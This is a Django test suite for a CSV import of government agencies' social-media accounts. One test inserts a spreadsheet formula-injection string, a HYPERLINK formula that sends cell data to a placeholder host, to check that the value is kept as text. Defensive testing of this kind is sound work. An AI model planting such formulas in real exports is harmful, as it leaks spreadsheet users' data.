"""Accounts from a table: all or nothing, and the same file twice adds nothing (Pasal 8b)."""

from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from accounts.loading import load_platforms
from accounts.models import MediaAccount
from tests.core.test_tables import CASES
from tests.factories import make_account, make_assigned

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]

PAGE = "/akun/impor/"
HEAD = "instansi;url;platform;nama_tampilan"


@pytest.fixture(autouse=True)
def _platforms(dishub, dpupr):
    load_platforms()


def table(*rows: str) -> bytes:
    return "\n".join([HEAD, *rows]).encode()


def many(count: int) -> list[str]:
    return [f"DISHUB;https://www.instagram.com/dishub{number}/;;" for number in range(count)]


def send(client, content: bytes, **fields):
    return client.post(PAGE, {"file": SimpleUploadedFile("akun.csv", content), **fields})


@pytest.fixture
def file(tmp_path):
    def write(content: bytes):
        path = tmp_path / "akun.csv"
        path.write_bytes(content)
        return str(path)

    return write


@pytest.fixture
def admin():
    return make_assigned("ADMIN")


@pytest.mark.pasal("8b")
@pytest.mark.usefixtures("admin")
def test_the_command_proposes_every_account(file):
    out = StringIO()

    call_command(
        "import_accounts",
        file(table(*many(2), "dpupr;@dpupr.berau;TikTok;DPUPR", "DISHUB;dishub.go.id;situs;")),
        stdout=out,
    )

    assert MediaAccount.objects.count() == 4
    assert MediaAccount.objects.get(agency__code="DPUPR").platform.code == "tiktok"
    assert "4 baris dibaca (pemisah ';'). 4 ditambahkan, 0 sudah ada." in out.getvalue()


@pytest.mark.usefixtures("admin")
def test_the_same_file_twice_adds_nothing(file):
    path, out = file(table(*many(3), *many(1))), StringIO()
    call_command("import_accounts", path, stdout=StringIO())

    call_command("import_accounts", path, stdout=out)

    assert MediaAccount.objects.count() == 3
    assert "0 ditambahkan, 4 sudah ada." in out.getvalue()


@pytest.mark.usefixtures("admin")
def test_a_trial_keeps_nothing(file):
    out = StringIO()

    call_command("import_accounts", file(table(*many(3))), "--dry-run", stdout=out)

    assert not MediaAccount.objects.exists()
    assert "3 akan ditambahkan" in out.getvalue()


@pytest.mark.usefixtures("admin")
def test_a_refused_row_refuses_the_command_and_every_row_is_told(file):
    out = StringIO()

    with pytest.raises(CommandError, match=r"^Baris 3: kolom 'url' tidak valid\."):
        call_command("import_accounts", file(table(*many(1), "DISHUB;a b;;")), stdout=out)

    assert not MediaAccount.objects.exists()
    assert "Baris 2: Dapat ditambahkan" in out.getvalue()
    assert "Baris 3: Ditolak: kolom 'url' tidak valid. Tuliskan satu alamat" in out.getvalue()


def test_csv100_an_empty_file_changes_nothing(as_user, officer):
    answer = send(as_user(officer), HEAD.encode())

    assert answer.status_code == 422
    assert CASES["CSV100"]["expect"]["message"] in answer.content.decode()


def test_csv101_one_bad_row_of_500_refuses_all(as_user, officer):
    rows = many(500)
    rows[5] = "DISHUB;bukan alamat;;"

    answer = send(as_user(officer), table(*rows))

    page = answer.content.decode().replace("&#x27;", "'")
    assert answer.status_code == 422
    assert CASES["CSV101"]["expect"]["message"] in page
    assert 'download="hasil-impor.csv"' in page
    assert not MediaAccount.objects.exists()


@pytest.mark.parametrize("encoding", ["utf-16", "windows-1252", "utf-8-sig"])
def test_csv103_the_page_takes_any_usual_encoding(as_user, officer, encoding):
    content = table(*many(500)).decode().encode(encoding)

    answer = send(as_user(officer), content)

    page = answer.content.decode().replace("&#x27;", "'")
    assert answer.status_code == 200
    assert CASES["CSV103"]["expect"]["message"] in page
    assert MediaAccount.objects.count() == 500


def test_csv104_a_formula_is_kept_as_text(as_user, officer, evaluator):
    send(as_user(officer), table('DISHUB;dishub1;instagram;"=HYPERLINK(""http://x""&A1)"'))

    assert MediaAccount.objects.get().display_name == '=HYPERLINK("http://x"&A1)'


def test_csv106_what_is_no_csv_changes_nothing(as_user, officer):
    answer = send(as_user(officer), table(*many(2), '"DISHUB;x;;'))

    assert answer.status_code == 422
    assert CASES["CSV106"]["expect"]["message"].format(n=4) in answer.content.decode()
    assert not MediaAccount.objects.exists()


@pytest.mark.pasal("8b")
def test_csv107_another_instansi_is_refused(as_user, officer):
    answer = send(as_user(officer), table(*many(1), "DPUPR;dpupr.berau;instagram;"))

    assert answer.status_code == 422
    assert CASES["CSV107"]["expect"]["message"] in answer.content.decode()
    assert not MediaAccount.objects.exists()


def test_without_an_instansi_the_rows_are_for_the_officers_own(as_user, officer, dishub):
    send(as_user(officer), b"url\nhttps://www.instagram.com/dishub1/\n")

    assert MediaAccount.objects.get().agency == dishub


def test_a_trial_on_the_page_keeps_nothing(as_user, officer):
    answer = send(as_user(officer), table(*many(2)), is_trial="on")

    assert "2 akan ditambahkan" in answer.content.decode()
    assert not MediaAccount.objects.exists()


def test_an_account_of_another_instansi_refuses_the_row(as_user, officer, dpupr):
    make_account(dpupr, "dishub0", platform=MediaAccount.platform.field.related_model.objects.get(
        code="instagram"))  # fmt: skip

    answer = send(as_user(officer), table(*many(2)))

    assert "Baris 2: @dishub0 di Instagram sudah terdaftar untuk" in answer.content.decode()
    assert MediaAccount.objects.count() == 1
